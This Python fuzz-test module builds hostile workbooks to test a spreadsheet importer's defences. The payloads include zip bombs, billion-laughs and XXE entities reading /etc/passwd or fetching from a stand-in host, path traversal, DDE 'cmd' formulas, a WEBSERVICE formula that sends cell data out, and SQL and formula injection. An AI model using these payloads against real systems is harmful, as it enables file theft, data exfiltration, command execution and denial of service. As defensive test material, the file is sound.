"""Workbooks that are no good, to whatever reads one."""

# ruff: noqa: E501 - a bad input stands on one line, as its reader gets it

import io
import struct
import zipfile
from collections.abc import Mapping, Sequence
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZIP_LZMA, ZipFile

from fuzz.recipes import row_of, sheet, zipped

from .case import Make, Table, later
from .exports import GOOD, NAMES
from .place import Place

BOMBS = Table("workbook that unpacks to more than it is")
XML = Table("workbook with other XML")
BOOKS = Table("workbook of sessions")
READ_BACK = Table("workbook that is read back")

SHEET = "xl/worksheets/sheet1.xml"
HEADER = row_of(1, *NAMES)
ROW = row_of(2, *GOOD.values())
PLAIN = sheet(HEADER + ROW)


def book(
    parts: Mapping[str, str | bytes],
    *more: object,
    method: int = ZIP_DEFLATED,
    name: str = "bad.xlsx",
) -> Make:
    """Import a workbook with these parts beside the usual ones."""

    def make(place: Place) -> Sequence[object]:
        whole = {SHEET: PLAIN, **parts}
        coded = {
            part: text if isinstance(text, bytes) else text.encode("utf-8", "surrogatepass")
            for part, text in whole.items()
        }
        return ["sessions", "import", place.write(name, zipped(coded, method)), *more]

    return make


def rows(xml: str, more: str = "") -> Make:
    """Import a workbook whose sheet has these rows below its header."""
    return book({SHEET: sheet(HEADER + xml, more)})


def raw(content: bytes, name: str = "bad.xlsx") -> Make:
    """Import these bytes as a workbook."""
    return lambda place: ["sessions", "import", place.write(name, content)]


def mixed(text: str, times: int) -> str:
    """Repeat a text such that it does not compress by much more than a hundred times."""
    return "".join(f"{text}<!--{n * 2_654_435_761 % 4_294_967_296:x}-->" for n in range(times))


MIB = 2**20
BOMBS.add(
    "a part of blanks",
    later(lambda: book({"xl/padding.xml": b"<a>" + b" " * 40 * MIB + b"</a>"})),
    4,
    says="grows",
)
BOMBS.add(
    "a part of zeros that is no XML", book({"xl/media/a.bin": bytes(40 * MIB)}), 4, says="grows"
)
BOMBS.add(
    "a workbook within a workbook",
    later(lambda: book({"xl/embeddings/inner.xlsx": zipped({"xl/x.xml": bytes(9 * MIB)}) * 40})),
    0,
    1,
    4,
)
BOMBS.add(
    "two hundred thousand parts",
    later(lambda: book({f"xl/p{n}": b"" for n in range(200_000)})),
    4,
    says="parts",
)
BOMBS.add(
    "a sheet with a row of a million cells",
    later(lambda: rows(f'<row r="2">{mixed("<c/>", 1_000_000)}</row>')),
    4,
    says="too many cells",
)
BOMBS.add(
    "a row within rows of cells",
    later(lambda: rows(f'<row r="2">{mixed("<row><c/></row><c/>", 300_000)}</row>')),
    4,
    says="too many cells",
)
BOMBS.add(
    "a hundred thousand rows with only their last cell",
    later(
        lambda: rows(
            "".join(
                f'<row r="{n}"><c r="XFD{n}"><v>{n * 7_919 % 99_991}</v></c></row>'
                for n in range(2, 100_000)
            )
        )
    ),
    4,
    says="far apart",
)
BOMBS.add(
    "the last row there is", rows('<row r="1048576"><c r="A1048576"><v>1</v></c></row>'), 0, 1
)
BOMBS.add(
    "a row beyond the last",
    later(lambda: rows('<row r="99999999"><c r="A99999999"><v>1</v></c></row>')),
    0,
    1,
    4,
)
BOMBS.add("rows that run backwards", rows('<row r="9"/><row r="3"/><row r="3"/>' + ROW), 0, 1, 4)
BOMBS.add(
    "a million cells of the header",
    later(
        lambda: book(
            {
                SHEET: sheet(
                    f'<row r="1">{mixed("<c t=&quot;n&quot;><v>1</v></c>".replace("&quot;", chr(34)), 400_000)}</row>'
                )
            }
        )
    ),
    4,
)
BOMBS.add(
    "a text of twenty megabytes in a cell",
    later(lambda: rows(row_of(2, "".join(f"{n:x}" for n in range(4_000_000))))),
    4,
    says="does not end",
)
BOMBS.add(
    "a million attributes",
    later(lambda: rows('<row r="2" ' + " ".join(f'a{n}="1"' for n in range(400_000)) + "/>")),
    4,
    says="does not end",
)
BOMBS.add(
    "an attribute of ten megabytes",
    later(lambda: rows(f'<row r="2" x="{"".join(f"{n:x}" for n in range(2_000_000))}"/>')),
    4,
    says="does not end",
)
BOMBS.add(
    "half a million cell formats",
    later(
        lambda: book(
            {
                "xl/styles.xml": f"<styleSheet><cellXfs>{mixed('<xf/>', 500_000)}</cellXfs></styleSheet>"
            }
        )
    ),
    4,
    says="elements",
)
BOMBS.add(
    "half a million merged areas",
    later(
        lambda: rows(
            ROW,
            "<mergeCells>"
            + "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(500_000))
            + "</mergeCells>",
        )
    ),
    4,
    says="elements",
)
BOMBS.add(
    "half a million names",
    later(
        lambda: book(
            {
                "xl/workbook.xml": "<workbook><definedNames>"
                + "".join(f"<definedName name='n{n}'>1</definedName>" for n in range(500_000))
                + "</definedNames></workbook>"
            }
        )
    ),
    4,
)
BOMBS.add(
    "two million shared texts",
    later(
        lambda: book(
            {
                "xl/sharedStrings.xml": "<sst>"
                + "".join(f"<si><t>{n:x}</t></si>" for n in range(2_100_000))
                + "</sst>"
            }
        )
    ),
    4,
    says="elements",
)
BOMBS.add(
    "shared texts of two hundred megabytes",
    later(
        lambda: book(
            {
                "xl/sharedStrings.xml": b"<sst>"
                + bytes(ord("a") + (n * n // 7 + n) % 26 for n in range(999_983)) * 210
                + b"</sst>"
            }
        )
    ),
    4,
)
BOMBS.add(
    "elements within elements",
    later(lambda: rows("<a>" * 100_000 + "</a>" * 100_000)),
    4,
    says="within elements",
)
BOMBS.add(
    "elements within elements of the styles",
    later(lambda: book({"xl/styles.xml": "<a>" * 100_000 + "</a>" * 100_000})),
    4,
    says="within elements",
)
BOMBS.add("packed by LZMA", book({}, method=ZIP_LZMA), 4, says="compressed")
BOMBS.add("packed by bzip2", book({}, method=ZIP_BZIP2), 4, says="compressed")


def _lzma_that_wants_much() -> bytes:
    """An LZMA part whose header asks for a dictionary of four gigabytes."""
    whole = bytearray(zipped({SHEET: PLAIN.encode()}, ZIP_LZMA))
    at = 0
    while (at := whole.find(b"\x09\x04\x05\x00", at + 1)) > 0:
        whole[at + 5 : at + 9] = b"\xff\xff\xff\xff"
    return bytes(whole)


BOMBS.add("packed with a dictionary of four gigabytes", raw(_lzma_that_wants_much()), 4)


def _lying(field: int, value: int) -> bytes:
    """A workbook whose directory says other sizes than the parts have."""
    whole = bytearray(zipped({SHEET: PLAIN.encode()}))
    at = 0
    while (at := whole.find(b"PK\x01\x02", at + 1)) > 0:
        struct.pack_into("<I", whole, at + field, value)
    return bytes(whole)


for what, field, value in (
    ("smaller than they are", 24, 10),
    ("larger than they are", 24, 3 * MIB),
    ("packed in nothing", 20, 0),
    ("at other places", 42, 5),
    ("behind the end", 42, 2**31),
    ("with another checksum", 16, 1),
):
    BOMBS.add(f"parts said to be {what}", raw(_lying(field, value)), 4)


def _all_at_one_place() -> bytes:
    """Fifty names for one part's bytes, as the zip bombs without nesting do."""
    out = io.BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name in ("[Content_Types].xml", "xl/workbook.xml"):
            archive.writestr(name, "<a/>")
        archive.writestr("xl/big0.xml", b"<a>" + b"<b/>" * 20_000 + b"</a>")
        for number in range(1, 50):
            info = zipfile.ZipInfo(f"xl/big{number}.xml")
            first = archive.getinfo("xl/big0.xml")
            for name in ("header_offset", "CRC", "compress_size", "file_size", "compress_type"):
                setattr(info, name, getattr(first, name))
            archive.filelist.append(info)
    return out.getvalue()


BOMBS.add("fifty parts at one place", raw(_all_at_one_place()), 4)
BOMBS.add(
    "something before the archive",
    raw(b"MZ" + b"\0" * 999 + zipped({SHEET: PLAIN.encode()})),
    0,
    1,
    4,
)
BOMBS.add(
    "something behind the archive", raw(zipped({SHEET: PLAIN.encode()}) + b"\0" * 99_999), 0, 1, 4
)
BOMBS.add("only an archive's beginning", raw(b"PK\x03\x04" + b"\0" * 99), 4)
BOMBS.add("an archive's end by itself", raw(b"PK\x05\x06" + b"\0" * 18), 4)
BOMBS.add("cut off", raw(zipped({SHEET: PLAIN.encode()})[:-300]), 4)

_LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)
_BODY = PLAIN
for part in (
    SHEET,
    "xl/workbook.xml",
    "xl/sharedStrings.xml",
    "xl/styles.xml",
    "[Content_Types].xml",
    "_rels/.rels",
    "xl/_rels/workbook.xml.rels",
    "docProps/core.xml",
    "xl/drawings/vmlDrawing1.vml",
    "xl/custom.bin",
):
    XML.add(
        f"a billion laughs in {part}",
        book({part: f"<?xml version='1.0'?>{_LAUGHS}<a>&j;</a>"}),
        4,
        says="document type",
    )
for what, entity in (
    ("a file", '<!ENTITY x SYSTEM "../outside/secret.csv">'),
    ("a file of the system", '<!ENTITY x SYSTEM "file:///etc/passwd">'),
    ("an address", '<!ENTITY x SYSTEM "http://elsewhere.example/x">'),
    ("a parameter", '<!ENTITY % x SYSTEM "http://elsewhere.example/x.dtd"> %x;'),
):
    XML.add(
        f"an entity that is {what}",
        book({SHEET: f"<!DOCTYPE a [{entity}]>" + PLAIN.replace("Ada", "&x;")}),
        4,
        says="document type",
    )
XML.add(
    "a document type from elsewhere",
    later(lambda: book({SHEET: '<!DOCTYPE a SYSTEM "http://elsewhere.example/a.dtd">' + PLAIN})),
    4,
    says="document type",
)
XML.add(
    "a document type in UTF-16",
    later(
        lambda: book(
            {
                SHEET: ('<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a []>' + PLAIN).encode(
                    "utf-16"
                )
            }
        )
    ),
    4,
    says="document type",
)
XML.add(
    "an entity that nobody told",
    book({SHEET: PLAIN.replace("completed", "&told;")}),
    4,
    says="damaged",
)
XML.add(
    "a sheet in UTF-16",
    later(
        lambda: book({SHEET: ('<?xml version="1.0" encoding="utf-16"?>' + PLAIN).encode("utf-16")})
    ),
    0,
    1,
    4,
)
XML.add(
    "a coding that is none",
    later(lambda: book({SHEET: '<?xml version="1.0" encoding="klingon"?>' + PLAIN})),
    4,
)
XML.add(
    "a coding that it is not",
    later(
        lambda: book(
            {
                SHEET: b'<?xml version="1.0" encoding="utf-8"?>'
                + PLAIN.replace("completed", "é").encode("cp1252")
            }
        )
    ),
    4,
)
XML.add(
    "an inclusion",
    later(
        lambda: book(
            {
                SHEET: PLAIN.replace(
                    "<sheetData>",
                    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/><sheetData>',
                )
            }
        )
    ),
    0,
    1,
    4,
)
XML.add(
    "a style sheet to fetch",
    later(
        lambda: book({SHEET: '<?xml-stylesheet href="http://elsewhere.example/x.xsl"?>' + PLAIN})
    ),
    0,
    1,
    4,
)
XML.add("zero characters", book({SHEET: PLAIN.replace("completed", "com\0pleted")}), 4)
XML.add("a reference to character zero", book({SHEET: PLAIN.replace("completed", "&#0;")}), 4)
XML.add("halves of characters", book({SHEET: PLAIN.replace("completed", "&#xD800;")}), 4)
XML.add(
    "control characters as Excel writes them",
    later(lambda: book({SHEET: PLAIN.replace("Zebulonia", "_x0000__x001B_[2J_xD800_")})),
    0,
    1,
)
XML.add("no XML at all", book({SHEET: b"\x00\x01\x02 this is no XML"}), 4)
XML.add("an empty sheet part", book({SHEET: b""}), 4)
XML.add("an HTML page as a sheet", book({SHEET: "<html><body><table></body>"}), 4)
XML.add(
    "another part in the sheet's place",
    later(
        lambda: book(
            {
                "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml.x"/></Types>'
            }
        )
    ),
    4,
)

_LINKS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
for target in (
    "../../../../etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "http://elsewhere.example/s.xml",
    "\\\\elsewhere\\share\\s.xml",
    "C:\\s.xml",
    "CON",
    "",
    "../" * 999,
    "sheet1.xml\x00",
):
    link = f'<Relationship Id="rId1" Type="{_OFFICE}/worksheet" Target="{target}" TargetMode="External"/>'
    BOOKS.add(
        f"a sheet that lies at {target[:24]!r}",
        book({"xl/_rels/workbook.xml.rels": _LINKS.format(link)}),
        4,
    )
for name in (
    "../../outside/owned.csv",
    "/tmp/owned",
    "C:\\owned",
    "..\\..\\owned",
    "CON",
    "xl/" + "a/" * 2_000 + "x",
    "x" * 9_999,
    "\x1b[2J\u202e.xml",
):
    BOOKS.add(f"a part called {name[:24]!r}", book({name: b"<a/>"}), 0, 1, 4)
_OUT = f'<Relationship Id="rId9" Type="{_OFFICE}/externalLink" Target="externalLinks/externalLink1.xml"/>'
_CORRECTED = ("--corrections",)


def given_back(make: Make) -> Make:
    """Ask for the workbook's corrections, too."""
    return lambda place: [*make(place), "--corrections", place.out / "fix.xlsx"]


def _external() -> dict[str, str | bytes]:
    from fuzz.recipes import USUAL

    own = f'<Relationship Id="rId1" Type="{_OFFICE}/externalLinkPath" Target="http://elsewhere.example/x.xlsx" TargetMode="External"/>'
    return {
        "xl/_rels/workbook.xml.rels": USUAL["xl/_rels/workbook.xml.rels"].replace(
            "</Rel", _OUT + "</Rel"
        ),
        "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{_OFFICE}"><externalBook r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames></externalBook></externalLink>',
        "xl/externalLinks/_rels/externalLink1.xml.rels": _LINKS.format(own),
        "xl/workbook.xml": USUAL["xl/workbook.xml"].replace(
            "</workbook>",
            '<externalReferences><externalReference r:id="rId9"/></externalReferences></workbook>',
        ),
    }


BOOKS.add("a link to another workbook", book(_external()), 0, 1)
BOOKS.add(
    "a link to another workbook, given back",
    given_back(book(_external())),
    0,
    1,
    writes=("out/fix.xlsx",),
)
BOOKS.add(
    "macros",
    later(
        lambda: book(
            {"xl/vbaProject.bin": bytes.fromhex("d0cf11e0a1b11ae1") + bytes(4_096)}, name="bad.xlsm"
        )
    ),
    0,
    1,
)
BOOKS.add(
    "macros, given back",
    later(
        lambda: given_back(
            book(
                {"xl/vbaProject.bin": bytes.fromhex("d0cf11e0a1b11ae1") + bytes(4_096)},
                name="bad.xlsm",
            )
        )
    ),
    0,
    1,
    writes=("out/fix.xlsx",),
)
BOOKS.add("an old macro sheet", book({"xl/macrosheets/sheet1.xml": "<a/>"}), 0, 1)
BOOKS.add(
    "controls and objects",
    later(
        lambda: book(
            {"xl/activeX/activeX1.bin": b"\0" * 99, "xl/embeddings/oleObject1.bin": b"\0" * 99}
        )
    ),
    0,
    1,
)
BOOKS.add("a binary workbook", book({"xl/workbook.bin": b"\0"}), 4, says="xlsb")
BOOKS.add(
    "a sheet that says it is huge",
    later(
        lambda: book(
            {SHEET: PLAIN.replace("<sheetData>", '<dimension ref="A1:XFD1048576"/><sheetData>')}
        )
    ),
    0,
    1,
)
BOOKS.add(
    "a sheet that says it is nothing",
    later(lambda: book({SHEET: PLAIN.replace("<sheetData>", '<dimension ref="A1"/><sheetData>')})),
    0,
    1,
)
BOOKS.add(
    "a size that is none",
    later(
        lambda: book(
            {SHEET: PLAIN.replace("<sheetData>", '<dimension ref="ZZZZ9:A0"/><sheetData>')}
        )
    ),
    0,
    1,
    4,
)
_CELLS = {
    "a place that is none": '<c r="1A"><v>1</v></c>',
    "a column beyond the last": '<c r="ZZZZ2"><v>1</v></c>',
    "row nought": '<c r="A0"><v>1</v></c>',
    "a shared text that is not there": '<c r="B2" t="s"><v>99</v></c>',
    "a shared text before the first": '<c r="B2" t="s"><v>-1</v></c>',
    "a shared text far behind": '<c r="B2" t="s"><v>99999999999999999999</v></c>',
    "a format that is not there": '<c r="B2" s="99"><v>1</v></c>',
    "a format of no number": '<c r="B2" s="x"><v>1</v></c>',
    "a day before all days": '<c r="C2" s="1"><v>-1</v></c>',
    "a day behind all days": '<c r="C2" s="1"><v>99999999999</v></c>',
    "a day of 1e308": '<c r="C2" s="1"><v>1e308</v></c>',
    "a day that is no number": '<c r="C2" s="1"><v>NaN</v></c>',
    "an endless number": '<c r="F2"><v>Infinity</v></c>',
    "a number of 1e999": '<c r="F2"><v>1e999</v></c>',
    "a number of five thousand digits": f'<c r="F2"><v>{"9" * 5_000}</v></c>',
    "a number with blanks": '<c r="F2"><v> 1 2 </v></c>',
    "yes that is neither": '<c r="F2" t="b"><v>maybe</v></c>',
    "an ISO day that is none": '<c r="C2" t="d"><v>2026-99-99</v></c>',
    "an error": '<c r="F2" t="e"><v>#REF!</v></c>',
    "a kind that there is not": '<c r="F2" t="zz"><v>1</v></c>',
    "a formula": '<c r="F2"><f>1+1</f><v>2</v></c>',
    "a formula without its value": '<c r="F2"><f>1+1</f></c>',
    "a formula that calls a program": '<c r="F2" t="str"><f>cmd|\' /C calc\'!A0</f><v>x</v></c>',
    "a formula that asks another computer": '<c r="F2" t="str"><f>WEBSERVICE("http://elsewhere.example/"&amp;A1)</f><v>x</v></c>',
    "a formula that goes round": '<c r="F2"><f>F2</f><v>0</v></c>',
    "a shared formula without its master": '<c r="F2"><f t="shared" si="9"/><v>0</v></c>',
    "a table of data": '<c r="F2"><f t="dataTable" ref="F2:G9" r1="A1"/><v>0</v></c>',
    "an array of everything": '<c r="F2"><f t="array" ref="A1:XFD1048576">1</f><v>0</v></c>',
    "text that begins like a formula": '<c r="M2" t="inlineStr"><is><t>=1+1</t></is></c>',
    "a cell twice": '<c r="B2"><v>1</v></c><c r="B2"><v>2</v></c>',
}
for what, cell in _CELLS.items():
    one = rows(ROW + f'<row r="3">{cell}</row>')
    BOOKS.add(f"a cell with {what}", one, 0, 1, 4)
    BOOKS.add(f"a cell with {what}, given back", given_back(one), 0, 1, 4, writes=("out/fix.xlsx",))
_BOOK = '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{}">{}</workbook>'
for what, inner in {
    "no sheets": "",
    "a sheet without its part": '<sheets><sheet name="A" sheetId="1" r:id="rId77"/></sheets>',
    "a sheet's name of ten thousand letters": f'<sheets><sheet name="{"x" * 10_000}" sheetId="1" r:id="rId1"/></sheets>',
    "a sheet's name with commands": '<sheets><sheet name="&#x202E;&#x9B;[2J" sheetId="1" r:id="rId1"/></sheets>',
    "a sheet's name that is a path": '<sheets><sheet name="../../x" sheetId="1" r:id="rId1"/></sheets>',
    "two sheets of one name": '<sheets><sheet name="A" sheetId="1" r:id="rId1"/><sheet name="A" sheetId="2" r:id="rId1"/></sheets>',
    "five thousand sheets": "<sheets>"
    + "".join(f'<sheet name="s{n}" sheetId="{n}" r:id="rId1"/>' for n in range(1, 5_001))
    + "</sheets>",
    "a sheet's number of twenty digits": f'<sheets><sheet name="A" sheetId="{"9" * 20}" r:id="rId1"/></sheets>',
    "an active sheet that is not there": '<bookViews><workbookView activeTab="99"/></bookViews><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets>',
    "names that point to nothing": '<sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets><definedNames><definedName name="_xlnm.Print_Area" localSheetId="99">#REF!</definedName><definedName name="_xlnm.Print_Titles" localSheetId="0">=1</definedName></definedNames>',
}.items():
    one = book({"xl/workbook.xml": _BOOK.format(_OFFICE, inner)})
    BOOKS.add(what, one, 0, 1, 4)
    BOOKS.add(f"{what}, given back", given_back(one), 0, 1, 4, writes=("out/fix.xlsx",))
BOOKS.add(
    "a sheet that is hidden",
    later(
        lambda: book(
            {SHEET: PLAIN.replace("<sheetData>", '<sheetFormatPr zeroHeight="1"/><sheetData>')}
        )
    ),
    0,
    1,
)
BOOKS.add("an OpenDocument", raw(zipped({"META-INF/manifest.xml": b"<a/>"})), 0, 1, 4)


def as_review(make: Make, *words: object) -> Make:
    """Give the workbook to another command."""
    return lambda place: [*words, make(place)[2]]


for what, make in {
    "that audit sample never wrote": book({}),
    "with a billion laughs": book({SHEET: _LAUGHS + PLAIN}),
    "of blanks": book({"xl/padding.xml": b"<a>" + b" " * 40 * MIB + b"</a>"}),
    "that is cut off": raw(zipped({SHEET: PLAIN.encode()})[:-300]),
    "that is text": raw(b"claim,check\n1,abc\n"),
    "of nothing": raw(b""),
}.items():
    for words in (
        ("audit", "review"),
        ("claims", "correct", "--import"),
        ("referrals", "import"),
        ("sessions", "gaps", "--month", "2026-10", "--counts"),
    ):
        sound = words[0] == "referrals" and what.startswith("that audit")
        READ_BACK.add(
            f"{' '.join(words[:2])}: a workbook {what}",
            as_review(make, *words),
            *((0, 1, 4) if sound else (4,)),
        )


def _edited(name: str, changes: Mapping[str, object], sheet_name: str | None = None) -> Make:
    """Change cells of a workbook that the tool wrote, and give it back."""

    def make(place: Place) -> Sequence[object]:
        from openpyxl import load_workbook

        written = load_workbook(place.data / name)
        page = written[sheet_name] if sheet_name else written.worksheets[0]
        head = next(row for row in page.iter_rows() if sum(c.value is not None for c in row) > 5)
        titles = {str(cell.value).casefold(): cell.column for cell in head}
        for title, value in changes.items():
            cell = page.cell(head[0].row + 1, titles[title.replace("_", " ")])
            cell.value = value  # type: ignore[assignment]
            if isinstance(value, str):
                cell.data_type = "s"
        written.save(place.data / "bad.xlsx")
        words = ("audit", "review") if name == "s.xlsx" else ("claims", "correct", "--import")
        return [*words, place.data / "bad.xlsx"]

    return make


for value in (
    -1,
    0,
    10**15,
    1.5,
    "=1+1",
    "1; DROP TABLE claims",
    "NaN",
    "\u202e1",
    "x" * 32_767,
    "٣",
    True,
):
    READ_BACK.add(
        f"claims correct: the claim {str(value)[:20]!r}",
        _edited("correct.xlsx", {"claim": value, "decision": "correct"}),
        0,
        1,
        2,
        4,
        5,
    )
for value in ("write  off", "=cmd|' /C calc'!A0", "\u202ecorrect", "correct" * 999, -1, "resubmit"):
    READ_BACK.add(
        f"claims correct: the decision {str(value)[:20]!r}",
        _edited("correct.xlsx", {"decision": value}),
        0,
        1,
        2,
        4,
        5,
    )
for column in (
    "code",
    "reason",
    "approval_reference",
    "patient_surname",
    "phn",
    "service_date",
    "note",
    "fee_items",
):
    for value in ("\x0bx".replace("\x0b", "\u202e"), "9" * 32_000, -1e300, "'=1+1"):
        READ_BACK.add(
            f"claims correct: {column} {str(value)[:9]!r}",
            _edited("correct.xlsx", {"decision": "correct", column: value}),
            0,
            1,
            2,
            4,
            5,
        )
